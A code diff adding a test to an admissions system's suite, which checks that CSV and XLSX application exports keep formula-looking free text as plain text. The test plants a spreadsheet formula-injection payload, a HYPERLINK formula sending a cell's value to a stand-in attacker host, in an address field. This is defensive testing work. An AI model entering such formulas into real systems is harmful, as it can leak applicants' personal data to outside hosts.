@@ -52,3 +52,49 @@ test('admissions exports applications as .xlsx and .csv; an editor cannot', asyn
   expect(await denied.text()).not.toContain(added.application_no)
   expect((await request.get(`${CMS_URL}/staff-api/export/applications?format=csv`)).status()).toBe(401)
 })
+
+test('free text that looks like a formula stays text in both formats', async ({ request }) => {
+  const admissions = DEMO_STAFF.find((s) => s.roles.includes('admissions'))!
+  const major = (await data(request, 'enrolling.Major/list', { page: 0, limit: 0, category_type: 'elderly' }))
+    .list[0]!
+  const school = (await data(request, 'educational.School/list', { page: 0, limit: 0 })).list[0]!
+  const formula = '=HYPERLINK("http://attacker.example/?x="&A2,"点击查看")'
+  const added = await data(request, 'enrolling.Enroll/add', {
+    category_type: 'elderly',
+    name: '公式测试',
+    gender: 'male',
+    id_card: idCard((Date.now() + 7) % 991, '19560404'),
+    mobile: '13600007777',
+    education: 'other',
+    level: major.level,
+    major_id: major.id,
+    school_id: school.id,
+    address: formula,
+    remark: '@SUM(1+1)',
+  })
+  const token = await staffLogin(request, admissions.email, admissions.password)
+  const auth = { authorization: `JWT ${token}` }
+  const csv = await request.get(`${CMS_URL}/staff-api/export/applications?format=csv&category_type=elderly`, {
+    headers: auth,
+  })
+  const line = (await csv.text()).split(/\r\n/).find((l) => l.startsWith(added.application_no))!
+  expect(line).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A2,""点击查看"")"`)
+  expect(line).toContain(",'@SUM(1+1),")
+  expect(line).not.toMatch(/(^|,)"?[=@]/)
+
+  const xlsx = await request.get(
+    `${CMS_URL}/staff-api/export/applications?format=xlsx&category_type=elderly`,
+    {
+      headers: auth,
+    },
+  )
+  const book = new ExcelJS.Workbook()
+  await book.xlsx.load((await xlsx.body()) as unknown as ArrayBuffer)
+  let cells: unknown[] = []
+  book.worksheets[0]!.eachRow((row) => {
+    if (String(row.getCell(1).value) === added.application_no) cells = (row.values as unknown[]).slice(1)
+  })
+  expect(cells).toContain(`'${formula}`)
+  expect(cells).toContain("'@SUM(1+1)")
+  for (const c of cells) expect(typeof c === 'object' && c !== null && 'formula' in c).toBe(false)
+})
